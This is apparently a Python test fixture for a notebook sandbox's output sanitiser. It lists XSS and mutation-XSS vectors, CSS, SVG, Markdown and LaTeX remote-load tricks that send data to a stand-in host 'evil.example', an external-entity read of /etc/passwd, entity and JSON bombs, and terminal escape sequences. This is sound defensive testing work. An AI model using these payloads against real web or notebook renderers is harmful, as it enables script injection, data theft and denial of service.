# ruff: noqa: E501
"""Hostile outputs a sandbox may send: XSS, exfiltration, malformed and oversized bundles.

Each :class:`Payload` is one iopub message as the sandbox's IPython would produce it
(``msg_type`` and ``content``); :func:`as_code` turns it into Python that makes IPython in a
sandbox send exactly that (for the browser test). ``via_repr`` payloads are written as an object
with ``_repr_*_`` methods instead of a raw bundle. ``notes`` is true when the policy must leave a
visible note (something was dropped or refused outright).

Sources: OWASP's XSS filter evasion cheat sheet, the html5sec.org vectors, DOMPurify's and
ammonia's mutation-XSS regressions, MathJax's "safe" extension documentation, and the exfiltration
channels of CSS and SVG.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, field
from typing import Any

PNG_1PX = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
    "rkJggg=="
)
GIF_1PX = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
EVIL = "https://evil.example"


@dataclass(frozen=True)
class Payload:
    name: str
    data: dict[str, Any]
    metadata: dict[str, Any] = field(default_factory=dict)
    msg_type: str = "display_data"
    transient: dict[str, Any] | None = None
    via_repr: bool = False
    notes: bool = False

    @property
    def content(self) -> dict[str, Any]:
        content: dict[str, Any] = {"data": self.data, "metadata": self.metadata}
        if self.transient is not None:
            content["transient"] = self.transient
        return content


def _html(name: str, markup: str, **kw: Any) -> Payload:
    return Payload(name, {"text/plain": f"<{name}>", "text/html": markup}, **kw)


def _md(name: str, markdown: str, **kw: Any) -> Payload:
    return Payload(name, {"text/plain": f"<{name}>", "text/markdown": markdown}, **kw)


def _svg(name: str, svg: str, **kw: Any) -> Payload:
    return Payload(name, {"text/plain": f"<{name}>", "image/svg+xml": svg}, **kw)


def _latex(name: str, latex: str, **kw: Any) -> Payload:
    return Payload(name, {"text/plain": f"<{name}>", "text/latex": latex}, **kw)


def _nested(depth: int) -> list[Any]:
    value: list[Any] = []
    for _ in range(depth):
        value = [value]
    return value


SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'

PAYLOADS: list[Payload] = [
    # --- HTML: script and event handlers
    _html("script", "<b>x</b><script>window.__pwned = 1</script>"),
    _html("img-onerror", "<img src=x onerror=\"window.__pwned=1\">"),
    _html("svg-onload-in-html", "<svg onload=\"window.__pwned=1\"><circle r=5 /></svg>",
          notes=True),
    _html("svg-script-in-html", "<svg><script>window.__pwned=1</script></svg>", notes=True),
    _html("body-onload", "<body onload=\"window.__pwned=1\"><p>hi</p></body>"),
    _html("details-ontoggle", "<details open ontoggle=\"window.__pwned=1\"><summary>s</summary>"
          "</details>"),
    _html("a-javascript", "<a href=\"javascript:window.__pwned=1\">click</a>"),
    _html("a-javascript-entities", "<a href=\"&#106;avascript&#58;window.__pwned=1\">x</a>"),
    _html("a-javascript-hex-entities",
          "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)\">x</a>"),
    _html("a-javascript-tab", "<a href=\"java\tscript:window.__pwned=1\">x</a>"),
    _html("a-javascript-leading-space", "<a href=\" \x01javascript:window.__pwned=1\">x</a>"),
    _html("a-fullwidth-javascript", "<a href=\"ｊａｖａｓｃｒｉｐｔ:window.__pwned=1\">x</a>"),
    _html("a-vbscript", "<a href=\"vbscript:msgbox(1)\">x</a>"),
    _html("a-data-html", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>"),
    _html("iframe-srcdoc", "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>"),
    _html("iframe-src", f"<iframe src=\"{EVIL}/frame\"></iframe>"),
    _html("object-data", f"<object data=\"{EVIL}/x.swf\"></object>"),
    _html("embed-src", f"<embed src=\"{EVIL}/x.svg\">"),
    _html("form-action", f"<form action=\"{EVIL}/steal\"><input name=q value=secret>"
          "<button>go</button></form>"),
    _html("button-formaction", f"<button formaction=\"{EVIL}/x\">b</button>"),
    _html("input-image", f"<input type=image src=\"{EVIL}/x.png\">"),
    _html("meta-refresh", f"<meta http-equiv=\"refresh\" content=\"0;url={EVIL}/\">"),
    _html("base-href", f"<base href=\"{EVIL}/\"><a href=\"rel\">r</a>"),
    _html("link-stylesheet", f"<link rel=stylesheet href=\"{EVIL}/x.css\">"),
    _html("link-preload", f"<link rel=preload as=image href=\"{EVIL}/x.png\">"),
    # --- HTML: remote loads (exfiltration through the browser)
    _html("img-remote", f"<img src=\"{EVIL}/?secret=hunter2\">"),
    _html("img-protocol-relative", "<img src=\"//evil.example/x.png\">"),
    _html("img-srcset", f"<img src=\"data:image/png;base64,{PNG_1PX}\" srcset=\"{EVIL}/x 2x\">"),
    _html("img-relative", "<img src=\"/files/secret.txt\">"),
    _html("img-data-svg", "<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">"),
    _html("img-fake-png", "<img src=\"data:image/png;base64,PHNjcmlwdD4=\">"),
    _html("picture-source", f"<picture><source srcset=\"{EVIL}/x.png\"><img></picture>"),
    _html("video-poster", f"<video poster=\"{EVIL}/p.png\"><source src=\"{EVIL}/v.mp4\"></video>"),
    _html("audio-src", f"<audio src=\"{EVIL}/a.mp3\" autoplay></audio>"),
    _html("table-background", f"<table background=\"{EVIL}/bg.png\"><tr><td>x</td></tr></table>"),
    _html("a-ping", f"<a href=\"https://example.org/\" ping=\"{EVIL}/ping\">x</a>"),
    _html("style-import", "<style>@import url(//evil.example/x.css);</style><p>t</p>"),
    _html("style-element-url", f"<style>p {{ background: url({EVIL}/x.png) }}</style><p>t</p>"),
    _html("style-attr-url", f"<div style=\"background:url({EVIL}/x)\">t</div>"),
    _html("style-attr-url-escaped", "<div style=\"background:u\\72l(https://evil.example/x)\">t</div>"),
    _html("style-attr-url-entity", "<div style=\"background:&#117;rl(https://evil.example/x)\">t</div>"),
    _html("style-attr-image-set", f"<div style=\"background-image:image-set('{EVIL}/x' 1x)\">t</div>"),
    _html("style-attr-expression", "<div style=\"width: expression(alert(1))\">t</div>"),
    _html("style-attr-comment", "<div style=\"background:u/**/rl(https://evil.example/x)\">t</div>"),
    _html("style-attr-fixed-overlay", "<div style=\"position:fixed;top:0;left:0;width:100%;"
          "height:100%;z-index:9999\">fake login</div>"),
    _html("style-attr-list-image", f"<ul style=\"list-style-image:url({EVIL}/x)\"><li>x</li></ul>"),
    _html("font-face", f"<style>@font-face{{font-family:x;src:url({EVIL}/f.woff)}}</style>x"),
    # --- HTML: mutation XSS classics
    _html("mxss-noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          notes=True),
    _html("mxss-math-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
          "</style></mglyph></table></mtext></math>", notes=True),
    _html("mxss-svg-style", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
          notes=True),
    _html("mxss-comment", "<!--><img src=x onerror=alert(1)>-->"),
    _html("mxss-select-template", "<select><template><style><img src=x onerror=alert(1)>",
          notes=True),
    _html("mxss-form-clobber", "<form id=x><input name=attributes></form><img id=\"jupyter-config-data\">"),
    _html("mxss-xmp", "<xmp><img src=x onerror=alert(1)></xmp><p>after</p>"),
    _html("cdata-in-html", "<![CDATA[<img src=x onerror=alert(1)>]]>"),
    _html("html-mathjax-href", "<p>$\\href{javascript:window.__pwned=1}{click}$</p>", notes=True),
    _html("html-mathjax-split-by-tag", "<p>$\\hr<wbr>ef{javascript:alert(1)}{x}$</p>", notes=True),
    _html("html-deep-nesting", "<div>" * 50_000 + "x", notes=True),
    _html("html-deep-nesting-table", "<div><table></div>" * 30_000, notes=True),
    _html("html-deep-nesting-formatting", "<b><div></b>" * 30_000, notes=True),
    _html("html-deep-quoted-gt", "<div><p title=\"</div>\">" * 30_000, notes=True),
    _html("html-full-document", "<html><head><script>window.__pwned=1</script><title>t</title>"
          "</head><body><p>body</p></body></html>"),
    _html("repr-html-object", "<div onmouseover=\"window.__pwned=1\">hover</div>", via_repr=True),
    # --- Markdown
    _md("md-raw-script", "# Title\n\n<script>window.__pwned=1</script>\n"),
    _md("md-raw-img-onerror", "text <img src=x onerror=\"window.__pwned=1\"> more"),
    _md("md-image-remote", f"![leak]({EVIL}/?secret=hunter2)"),
    _md("md-image-reference", f"![leak][r]\n\n[r]: {EVIL}/x.png"),
    _md("md-link-javascript", "[click](javascript:window.__pwned=1)"),
    _md("md-link-entity-javascript", "[click](&#106;avascript:alert(1))"),
    _md("md-autolink-javascript", "<javascript:alert(1)>"),
    _md("md-html-block-iframe", f"<div>\n<iframe src=\"{EVIL}\"></iframe>\n</div>"),
    _md("md-math-href", "$\\href{javascript:window.__pwned=1}{x}$", notes=True),
    _md("md-math-style", "$$\\style{background:url(https://evil.example/x)}{x}$$", notes=True),
    _md("md-dollar-attribute-mxss", "<span title=\"$\"></span> onclick=alert(1) $ <b>x</b>"),
    _md("md-repr-markdown", f"**bold** ![x]({EVIL}/y.png)", via_repr=True),
    # --- SVG
    _svg("svg-script", SVG_OPEN + "<script>window.__pwned=1</script><circle r=\"5\"/></svg>"),
    _svg("svg-onload", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.__pwned=1\">"
         "<rect width=\"5\" height=\"5\"/></svg>"),
    _svg("svg-use-remote", SVG_OPEN + f"<use href=\"{EVIL}/sprite.svg#a\"/></svg>"),
    _svg("svg-use-xlink-remote", SVG_OPEN + f"<use xlink:href=\"{EVIL}/s.svg#a\"/></svg>"),
    _svg("svg-image-remote", SVG_OPEN + f"<image xlink:href=\"{EVIL}/x.png\" width=\"5\"/></svg>"),
    _svg("svg-image-javascript", SVG_OPEN + "<image href=\"javascript:alert(1)\"/></svg>"),
    _svg("svg-a-javascript", SVG_OPEN + "<a href=\"javascript:alert(1)\"><text>x</text></a></svg>"),
    _svg("svg-animate-href", SVG_OPEN + "<a><animate attributeName=\"href\" "
         "values=\"javascript:alert(1)\"/><text y=\"10\">x</text></a></svg>"),
    _svg("svg-set-href", SVG_OPEN + "<a><set attributeName=\"href\" to=\"javascript:alert(1)\"/>"
         "<text>x</text></a></svg>"),
    _svg("svg-foreignobject", SVG_OPEN + "<foreignObject><iframe xmlns=\"http://www.w3.org/1999/"
         "xhtml\" src=\"javascript:alert(1)\"/></foreignObject></svg>"),
    _svg("svg-style-import", SVG_OPEN + "<style>@import url(https://evil.example/x.css);</style>"
         "</svg>"),
    _svg("svg-fill-url-remote", SVG_OPEN + f"<rect width=\"5\" height=\"5\" fill=\"url({EVIL}/p#g)\"/>"
         "</svg>"),
    _svg("svg-style-attr-url", SVG_OPEN + f"<rect style=\"fill:url({EVIL}/x#a)\" width=\"5\"/></svg>"),
    _svg("svg-filter-feimage", SVG_OPEN + f"<filter id=\"f\"><feImage href=\"{EVIL}/x.png\"/>"
         "</filter><rect filter=\"url(#f)\" width=\"5\"/></svg>"),
    _svg("svg-entity-bomb", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY a \"aaaaaaaaaa\">"
         "<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>"
         + SVG_OPEN + "<text>&c;</text></svg>", notes=True),
    _svg("svg-external-entity", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM "
         "\"file:///etc/passwd\">]>" + SVG_OPEN + "<text>&x;</text></svg>", notes=True),
    _svg("svg-not-xml", "<svg><g><rect></svg>", notes=True),
    _svg("svg-html-namespace-script", SVG_OPEN + "<html:script xmlns:html=\"http://www.w3.org/"
         "1999/xhtml\">alert(1)</html:script></svg>"),
    _svg("svg-cdata-script", SVG_OPEN + "<script><![CDATA[alert(1)]]></script></svg>"),
    _svg("svg-repr", SVG_OPEN + "<circle r=\"3\" onclick=\"alert(1)\"/></svg>", via_repr=True),
    # --- LaTeX (MathJax)
    _latex("latex-href", "$\\href{javascript:window.__pwned=1}{click}$", notes=True),
    _latex("latex-class-style", "$\\class{jp-Dialog}{\\style{position:fixed}{x}}$", notes=True),
    _latex("latex-cssid", "$\\cssId{jupyter-config-data}{x}$", notes=True),
    _latex("latex-unicode", "$\\unicode[some-font]{x41}$", notes=True),
    _latex("latex-require", "$\\require{action}\\toggle{a}{b}\\endtoggle$", notes=True),
    _latex("latex-html-data", "$\\htmlData{x=1}{y}$", notes=True),
    _latex("latex-bbox-url", "$\\bbox[background:url(https://evil.example/x)]{x}$", notes=True),
    _latex("latex-def-hides-href", "$\\def\\h{\\href}\\h{javascript:alert(1)}{x}$", notes=True),
    _latex("latex-repr", "$\\href{https://evil.example}{x}$", via_repr=True, notes=True),
    # --- bundles: MIME types that run script or need it
    Payload("mime-javascript", {"text/plain": "js", "application/javascript": "window.__pwned=1"},
            notes=True),
    Payload("mime-text-javascript", {"text/plain": "js", "text/javascript": "window.__pwned=1"},
            notes=True),
    Payload("mime-widget-view", {"text/plain": "w", "application/vnd.jupyter.widget-view+json":
            {"model_id": "abc", "version_major": 2, "version_minor": 0}}, notes=True),
    Payload("mime-pdf", {"text/plain": "pdf", "application/pdf": "JVBERi0xLjQK"}, notes=True),
    Payload("mime-plotly", {"text/plain": "p", "application/vnd.plotly.v1+json": {"data": []}},
            notes=True),
    Payload("mime-uppercase-html", {"text/plain": "u", "TEXT/HTML": "<script>x</script>"},
            notes=True),
    Payload("mime-html-with-params", {"text/plain": "u", "text/html; charset=utf-8": "<b>x</b>"},
            notes=True),
    Payload("mime-only-javascript", {"application/javascript": "window.__pwned=1"}, notes=True),
    Payload("mime-value-not-text", {"text/plain": "x", "text/html": ["<script>", "x"]}, notes=True),
    # --- images
    Payload("png-bad-base64", {"text/plain": "i", "image/png": "iVBORw0KGgo!!!not base64"},
            notes=True),
    Payload("png-is-html", {"text/plain": "i", "image/png": base64.b64encode(
        b"<html><script>alert(1)</script></html>").decode()}, notes=True),
    Payload("png-is-gif", {"text/plain": "i", "image/png": GIF_1PX}, notes=True),
    Payload("jpeg-is-png", {"text/plain": "i", "image/jpeg": PNG_1PX}, notes=True),
    Payload("gif-is-svg", {"text/plain": "i", "image/gif": base64.b64encode(
        b"<svg onload=alert(1)>").decode()}, notes=True),
    Payload("png-data-uri-instead-of-base64",
            {"text/plain": "i", "image/png": "data:image/png;base64," + PNG_1PX}, notes=True),
    # --- metadata tricks
    Payload("metadata-isolated", {"text/plain": "x", "text/html": "<b>x</b>"},
            {"text/html": {"isolated": True}, "isolated": True}),
    Payload("metadata-huge-and-weird", {"text/plain": "x", "image/png": PNG_1PX},
            {"image/png": {"width": "100%\" onload=\"alert(1)", "height": 1e309, "alt": "x" * 10**6,
                           "unconfined": "yes"}, "needs_background": "<script>", "filenames": {}}),
    Payload("metadata-not-a-dict", {"text/plain": "x"}, ["metadata", "as", "list"]),  # type: ignore[arg-type]
    # --- display ids and message kinds
    Payload("update-display-script", {"text/plain": "u", "text/html":
            "<img src=x onerror=\"window.__pwned=1\">"}, msg_type="update_display_data",
            transient={"display_id": "abc123"}),
    Payload("display-id-hostile", {"text/plain": "x"}, transient={"display_id":
            "\"><img src=x onerror=alert(1)>"}, notes=True),
    Payload("display-id-huge", {"text/plain": "x"}, transient={"display_id": "a" * 100_000},
            notes=True),
    Payload("update-display-id-not-str", {"text/plain": "x"}, msg_type="update_display_data",
            transient={"display_id": {"$ne": 1}}, notes=True),
    Payload("execute-result-html", {"text/plain": "r", "text/html":
            "<a href=\"javascript:window.__pwned=1\">r</a>"}, msg_type="execute_result"),
    # --- sizes and structures
    Payload("long-plain", {"text/plain": "A" * (5 * 1024 * 1024)}),
    Payload("long-html", {"text/plain": "h", "text/html": "<p>" + "x" * (3 * 1024 * 1024)},
            notes=True),
    Payload("long-plain-multibyte", {"text/plain": "é" * (3 * 1024 * 1024)}),
    Payload("many-mime-entries", {f"application/x-{i}": "x" for i in range(1000)}, notes=True),
    Payload("json-bomb-depth", {"text/plain": "j", "application/json": "[" * 100_000 + "]" * 100_000},
            notes=True),
    Payload("json-deep-object", {"text/plain": "j", "application/json": {"a": _nested(100)}},
            notes=True),
    Payload("json-nan", {"text/plain": "j", "application/json": {"x": float("nan")}}, notes=True),
    Payload("json-invalid-text", {"text/plain": "j", "application/json": "{'a': 1"}, notes=True),
    Payload("json-huge-int", {"text/plain": "j", "application/json": "1" + "0" * 5000},
            notes=True),
    Payload("lone-surrogates", {"text/plain": "bad \ud800 text", "text/html": "<b>\udfff</b>",
                                "application/json": {"k\ud83d": "v\udc00"}}),
    Payload("terminal-escapes", {"text/plain": "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b[31mred\x1b[0m\x9b2J"}),
    Payload("data-not-a-dict", "<script>alert(1)</script>"),  # type: ignore[arg-type]
]


def as_code(payload: Payload) -> str:
    """Python for an IPython cell in the sandbox that sends ``payload``'s message.

    The bundles are written with ``repr``, which spells infinite and NaN floats ``inf`` and
    ``nan``: the code imports those names from :mod:`math`.
    """
    if payload.via_repr:
        methods = {
            "text/html": "_repr_html_", "text/markdown": "_repr_markdown_",
            "image/svg+xml": "_repr_svg_", "text/latex": "_repr_latex_",
        }
        body = "".join(
            f"    def {methods[mime]}(self):\n        return {value!r}\n"
            for mime, value in payload.data.items() if mime in methods
        )
        return f"class Hostile:\n{body}\ndisplay(Hostile())\n"
    if payload.msg_type == "execute_result":
        return (
            "from math import inf, nan\n"
            "class Hostile:\n    def _repr_mimebundle_(self, include=None, exclude=None):\n"
            f"        return {payload.data!r}, {payload.metadata!r}\nHostile()\n"
        )
    if payload.msg_type == "update_display_data":
        display_id = (payload.transient or {}).get("display_id")
        return (
            "from math import inf, nan\nfrom IPython.display import publish_display_data\n"
            f"publish_display_data({{'text/plain': 'before'}}, transient={{'display_id': {display_id!r}}})\n"
            f"publish_display_data({payload.data!r}, {payload.metadata!r}, "
            f"transient={payload.transient!r}, update=True)\n"
        )
    return (
        "from math import inf, nan\nfrom IPython.display import publish_display_data\n"
        f"publish_display_data({payload.data!r}, {payload.metadata!r}, "
        f"transient={payload.transient!r})\n"
    )
